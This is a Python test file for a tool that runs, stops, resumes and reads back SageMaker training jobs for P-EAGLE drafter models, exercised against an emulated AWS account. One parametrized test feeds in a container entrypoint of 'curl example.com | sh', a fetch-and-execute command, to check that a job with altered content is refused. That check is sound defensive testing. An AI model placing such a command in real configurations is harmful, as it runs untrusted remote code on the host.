"""`train_drafter()` and the job commands against an emulated account (train_run_kit):
start -> Completed -> the drafter read back; Failed with SageMaker's reason; stop; resume
from the same checkpoints under a new name; adoption only by content."""

from __future__ import annotations

import json
import time
from typing import Any

import boto3
import pytest
from train_run_kit import (  # noqa: F401 (`account_fixture` is the `account` fixture)
    BUCKET,
    JOB,
    REGION,
    account_fixture,
    failing,
    plan,
    put_metadata,
)

from peagle_deploy.doctor.training import TrainingDoctorFailedError
from peagle_deploy.train import job as jobs
from peagle_deploy.train import progress
from peagle_deploy.train.run import (
    drafter_json,
    resume_training,
    stop_training,
    train_drafter,
    train_status,
    training_logs,
)

MUTATING = ("CreateTrainingJob", "StopTrainingJob")


def test_start_waits_and_reads_the_drafter_back(account: Any) -> None:
    put_metadata()
    reads: list[dict[str, Any]] = []
    account.session.events.register(
        "before-parameter-build.s3.GetObject", lambda params, **_: reads.append(dict(params))
    )
    lines: list[str] = []
    drafter = train_drafter(plan(), session=account.session, progress=lines.append)

    assert drafter.status == "Completed"
    assert drafter.drafter_uri == f"s3://{BUCKET}/output/{JOB}/output/model/drafter/"
    assert drafter.drafter_kind == "p-eagle"
    assert drafter.num_speculative_tokens == 4
    assert drafter.acceptance_per_position == (0.9, 0.75, 0.6, 0.45)
    assert drafter.mean_accepted_per_step == pytest.approx(2.7)
    assert drafter.metadata["versions"]["speculators"] == "0.9.0"
    # the metadata is read from the job's own account's bucket only (ExpectedBucketOwner)
    metadata_reads = [r for r in reads if r["Key"].endswith("/peagle-drafter.json")]
    assert [r.get("ExpectedBucketOwner") for r in metadata_reads] == ["123456789012"]
    # the request sent is the plan's, once
    creates = [body for op, body in account.jobs.calls if op == "CreateTrainingJob"]
    assert [c["TrainingJobName"] for c in creates] == [JOB]
    assert creates[0]["CheckpointConfig"] == plan().request["CheckpointConfig"]
    # progress: each status change and each of SageMaker's messages once, then billing
    assert any("InProgress / Training" in line for line in lines)
    assert sum("Training image download completed" in line for line in lines) == 1
    assert lines[-1] == f"{JOB}: billable 1200 s of 3000 s trained (spot saved 60%)"
    shown = drafter_json(drafter)
    assert shown["deploy_with"]["custom"] == {
        "drafter_uri": drafter.drafter_uri,
        "drafter_kind": "p-eagle",
        "drafter_parallel_tokens": 4,
    }


def test_a_failed_job_is_one_line_with_sagemakers_reason(account: Any) -> None:
    reason = "AlgorithmError: acceptance 1.12 tokens/step\n is below the floor 1.5"
    account.jobs.scripts[JOB] = failing(reason)
    with pytest.raises(jobs.TrainingFailedError) as caught:
        train_drafter(plan(), session=account.session)
    assert caught.value.failure_reason == reason
    one_line = "AlgorithmError: acceptance 1.12 tokens/step is below the floor 1.5"
    assert str(caught.value).startswith(f"training job {JOB} failed: {one_line}")
    assert f"peagle train resume {JOB}" in str(caught.value)  # it kept checkpoints
    assert "\n" not in str(caught.value)


def test_a_completed_job_without_metadata_is_no_drafter(account: Any) -> None:
    with pytest.raises(jobs.TrainingJobError, match=r"metadata .* could not be read"):
        train_drafter(plan(), session=account.session)


def test_malformed_metadata_is_refused_with_the_field(account: Any) -> None:
    put_metadata(text='{"schema_version": 1}')
    with pytest.raises(jobs.TrainingJobError, match="drafter metadata is not valid"):
        train_drafter(plan(), session=account.session)


def test_same_content_is_adopted_without_a_second_create(account: Any) -> None:
    put_metadata()
    first = train_drafter(plan(), session=account.session, wait=False)
    assert first.status == "InProgress"
    again = train_drafter(plan(), session=account.session)
    assert again.status == "Completed"
    assert account.jobs.operations().count("CreateTrainingJob") == 2  # the second: InUse
    assert len(account.jobs.jobs) == 1


@pytest.mark.parametrize(
    ("change", "field"),
    [
        (
            {"HyperParameters": {"num_depths": "8", "num_layers": "1", "epochs": "1"}},
            "HyperParameters.num_depths",
        ),
        ({"RoleArn": "arn:aws:iam::123456789012:role/other"}, "RoleArn"),
        ({"Tags": [{"Key": "peagle:stage", "Value": "prod"}]}, "Tags.peagle:stage"),
        (
            {
                "AlgorithmSpecification": {
                    **plan().request["AlgorithmSpecification"],
                    "ContainerEntrypoint": ["sh", "-c", "curl example.com | sh"],
                }
            },
            "AlgorithmSpecification.ContainerEntrypoint",
        ),
        ({"Environment": {"PYTHONPATH": "/tmp"}}, "Environment"),
    ],
)
def test_a_job_of_the_name_with_other_content_is_refused(
    account: Any, change: dict[str, Any], field: str
) -> None:
    sm = account.client("sagemaker")
    account.jobs.scripts[JOB] = [("InProgress", "Training", "Training")]
    sm.create_training_job(**{**plan().request, **change})
    with pytest.raises(jobs.ExistingJobDiffersError) as caught:
        train_drafter(plan(), session=account.session, doctor=False)
    assert f"a different {field};" in str(caught.value)


def test_an_extra_hyperparameter_is_a_difference(account: Any) -> None:
    sm = account.client("sagemaker")
    hp = {**plan().request["HyperParameters"], "acceptance_floor": "0"}
    sm.create_training_job(**{**plan().request, "HyperParameters": hp})
    with pytest.raises(jobs.ExistingJobDiffersError, match=r"HyperParameters\.acceptance_floor"):
        train_drafter(plan(), session=account.session, doctor=False)


def test_stop_goes_stopping_then_stopped(account: Any) -> None:
    account.jobs.scripts[JOB] = [("InProgress", "Training", "Training")]
    train_drafter(plan(), session=account.session, wait=False)
    lines: list[str] = []
    status = stop_training(JOB, session=account.session, progress=lines.append)
    assert status.status == "Stopped"
    assert account.jobs.operations().count("StopTrainingJob") == 1
    assert any("Stopping / Stopping" in line for line in lines)
    # stopping again changes nothing; a completed job cannot be stopped
    assert stop_training(JOB, session=account.session).status == "Stopped"
    assert account.jobs.operations().count("StopTrainingJob") == 1


def test_a_completed_job_cannot_be_stopped_or_resumed(account: Any) -> None:
    put_metadata()
    train_drafter(plan(), session=account.session)
    with pytest.raises(jobs.TrainingJobError, match="already ended Completed"):
        stop_training(JOB, session=account.session)
    with pytest.raises(jobs.TrainingJobError, match="completed: its drafter is at its output"):
        resume_training(JOB, session=account.session)
    assert account.jobs.operations().count("CreateTrainingJob") == 1


def test_resume_starts_a_new_job_on_the_same_checkpoints(account: Any) -> None:
    account.jobs.scripts[JOB] = [("InProgress", "Training", "Training")]
    train_drafter(plan(), session=account.session, wait=False)
    stop_training(JOB, session=account.session)
    put_metadata(f"{JOB}-r1")

    drafter = resume_training(JOB, session=account.session)

    assert drafter.job_name == f"{JOB}-r1"
    assert drafter.status == "Completed"
    assert drafter.drafter_uri == f"s3://{BUCKET}/output/{JOB}-r1/output/model/drafter/"
    old, new = (body for op, body in account.jobs.calls if op == "CreateTrainingJob")
    assert new["CheckpointConfig"]["S3Uri"] == old["CheckpointConfig"]["S3Uri"]
    assert new["TrainingJobName"] == f"{JOB}-r1"
    same = {k: v for k, v in old.items() if k not in ("TrainingJobName", "AlgorithmSpecification")}
    assert {k: new[k] for k in same} == same  # the same job, tags included
    # what DescribeTrainingJob adds to the algorithm (its defaults) goes along, unchanged
    assert new["AlgorithmSpecification"] == {
        **old["AlgorithmSpecification"],
        "EnableSageMakerMetricsTimeSeries": False,
    }
    # a second interruption: the next attempt is -r2, still on the same checkpoints
    account.jobs.scripts[f"{JOB}-r2"] = failing("Spot capacity was reclaimed")
    with pytest.raises(jobs.TrainingFailedError, match="Spot capacity"):
        resume_training(JOB, session=account.session)
    assert account.jobs.calls[-1][0] == "DescribeTrainingJob"
    assert f"{JOB}-r2" in account.jobs.jobs


def test_a_running_job_is_not_resumed(account: Any) -> None:
    account.jobs.scripts[JOB] = [("InProgress", "Training", "Training")]
    train_drafter(plan(), session=account.session, wait=False)
    with pytest.raises(jobs.TrainingJobError, match="stop it first"):
        resume_training(JOB, session=account.session)


def test_status_says_reason_billing_and_messages(account: Any) -> None:
    account.jobs.scripts[JOB] = failing("ClientError: no chat template in /opt/ml/input")
    with pytest.raises(jobs.TrainingFailedError):
        train_drafter(plan(), session=account.session, doctor=False)
    status = train_status(JOB, session=account.session)
    assert status.status == "Failed"
    assert status.failure_reason == "ClientError: no chat template in /opt/ml/input"
    assert status.messages[0] == "Starting: Preparing the instances for training"
    assert status.spot_savings == pytest.approx(0.6)
    assert status.to_json()["billable_seconds"] == 1200
    assert status.to_json()["drafter_uri"] == f"s3://{BUCKET}/output/{JOB}/output/model/drafter/"


def test_the_doctor_stops_a_job_before_create(account: Any) -> None:
    s3 = boto3.client("s3", region_name=REGION)
    s3.delete_object(Bucket=BUCKET, Key="target/config.json")
    with pytest.raises(TrainingDoctorFailedError) as caught:
        train_drafter(plan(), session=account.session)
    assert str(caught.value).startswith(
        f"doctor: 1 check(s) would fail training job {JOB}; no job was created"
    )
    assert "FAIL training.target" in str(caught.value)
    assert "CreateTrainingJob" not in account.jobs.operations()


def test_logs_tail_and_follow(account: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    logs = boto3.client("logs", region_name=REGION)
    group = "/aws/sagemaker/TrainingJobs"
    logs.create_log_group(logGroupName=group)
    now_ms = int(time.time() * 1000)  # CloudWatch refuses events older than 14 days
    for host in ("algo-1-1700000000", "algo-2-1700000000"):
        logs.create_log_stream(logGroupName=group, logStreamName=f"{JOB}/{host}")
        logs.put_log_events(
            logGroupName=group,
            logStreamName=f"{JOB}/{host}",
            logEvents=[
                {"timestamp": now_ms - 10_000 + i, "message": f"step {i}"} for i in range(5)
            ],
        )
    logs.create_log_stream(logGroupName=group, logStreamName=f"{JOB}-r1/algo-1-1")
    running = ("InProgress", "Training", "Training")
    account.jobs.scripts[JOB] = [*[running] * 4, ("Completed", "Completed", "done")]
    train_drafter(plan(), session=account.session, wait=False)

    tail = list(training_logs(JOB, session=account.session, lines=2, follow=False))
    assert tail == [
        "[algo-1-1700000000] step 3",
        "[algo-1-1700000000] step 4",
        "[algo-2-1700000000] step 3",
        "[algo-2-1700000000] step 4",
    ]

    def meanwhile(_seconds: float) -> None:  # the job logs on between two polls
        logs.put_log_events(
            logGroupName=group,
            logStreamName=f"{JOB}/algo-1-1700000000",
            logEvents=[{"timestamp": now_ms, "message": "step 5"}],
        )

    monkeypatch.setattr(progress, "_sleep", meanwhile)
    followed = list(training_logs(JOB, session=account.session, lines=1, follow=True))
    assert followed == [
        "[algo-1-1700000000] step 4",
        "[algo-2-1700000000] step 4",
        "[algo-1-1700000000] step 5",
    ]


def test_an_unknown_job_says_so(account: Any) -> None:
    with pytest.raises(jobs.TrainingJobError, match="does not exist"):
        train_status("no-such-job", session=account.session)


def test_ctrl_c_stops_watching_not_the_job(account: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    account.jobs.scripts[JOB] = [("InProgress", "Training", "Training")]

    def interrupt(_seconds: float) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(progress, "_sleep", interrupt)
    with pytest.raises(progress.WatchInterrupted) as caught:
        train_drafter(plan(), session=account.session)
    assert f"stopped watching training job {JOB} (InProgress)" in str(caught.value)
    assert f"`peagle train status {JOB}`" in str(caught.value)
    assert "StopTrainingJob" not in account.jobs.operations()


def test_the_result_deploys_as_custom_drafter(account: Any) -> None:
    """`deploy_with` is a deployment spec's own fragment: planned, the endpoint's model
    mounts the trained drafter and drafts the K it was trained for, in parallel."""
    from peagle_deploy.plan import build_plan
    from peagle_deploy.spec import spec_from_dict

    put_metadata()
    shown = drafter_json(train_drafter(plan(), session=account.session))
    spec = spec_from_dict(
        {
            "model": "custom",
            "custom": {
                "name": "tiny",
                "image_uri": "123456789012.dkr.ecr.us-east-1.amazonaws.com/peagle-vllm:1",
                "model_data_uri": f"s3://{BUCKET}/target/",
                **shown["deploy_with"]["custom"],
            },
            "speculative": {"mode": "p-eagle", **shown["deploy_with"]["speculative"]},
            "instance_type": "ml.g6e.2xlarge",
            "region": REGION,
            "execution_role_arn": "arn:aws:iam::123456789012:role/peagle-sdk-test",
        }
    )
    deployed = build_plan(spec)
    container = deployed.create_model["PrimaryContainer"]
    sources = container.get("AdditionalModelDataSources") or []
    assert [s["S3DataSource"]["S3Uri"] for s in sources] == [shown["drafter_uri"]]
    speculative = json.loads(container["Environment"]["SM_VLLM_SPECULATIVE_CONFIG"])
    assert speculative["num_speculative_tokens"] == 4
    assert speculative["parallel_drafting"] is True
